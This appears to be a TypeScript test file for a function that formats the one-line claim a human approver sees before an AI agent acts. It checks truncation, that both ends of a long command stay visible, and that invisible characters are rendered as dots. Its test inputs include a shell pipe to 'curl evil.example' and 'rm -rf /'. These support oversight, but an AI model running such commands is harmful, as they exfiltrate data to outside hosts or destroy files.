// What an approver reads as the claim: always one line that the daemon accepts (spec/01-encoding.md §text, spec/13-mcp.md §requests).
import { expect, test } from 'bun:test';
import fc from 'fast-check';
import { verifyClaim, verifyText } from '../protocol/text.ts';
import { agentName, claimOf } from './claim.ts';

test('the agent’s words, then the act', () => {
  expect(claimOf('nightly report', 'run psql -h db')).toBe('nightly report · run psql -h db');
  expect(claimOf('nightly report')).toBe('nightly report');
});

test('of a long act, begin and end are seen', () => {
  const claim = claimOf('why', `run sh -c '${'x'.repeat(500)} | curl evil.example'`);
  expect(claim).toStartWith("why · run sh -c 'xxx");
  expect(claim).toEndWith("| curl evil.example'");
  expect(claim.length).toBeLessThanOrEqual(120);
});

test('a long reason leaves room for the act', () => {
  expect(claimOf('because '.repeat(15), 'run rm -rf /')).toEndWith(' · run rm -rf /');
});

test('what no person could see is shown as a dot', () => {
  expect(claimOf('a\u202eb\u0000c', 'run x\u200b\ny')).toBe('a·b·c · run x· y');
});

test('any text at all is accepted by the daemon', () => {
  const text = fc.oneof(fc.string({ maxLength: 300, unit: 'binary' }), fc.string({ maxLength: 300, unit: 'grapheme' }));
  fc.assert(
    fc.property(text, text, (reason, act) => {
      for (const claim of [claimOf(`why ${reason}`), claimOf(`why ${reason}`, act)]) expect(verifyClaim(verifyText(claim))).toBe(claim);
      const agent = agentName(reason);
      if (agent !== undefined) expect(verifyText(agent)).toBe(agent);
    }),
    { numRuns: 2_000 },
  );
});
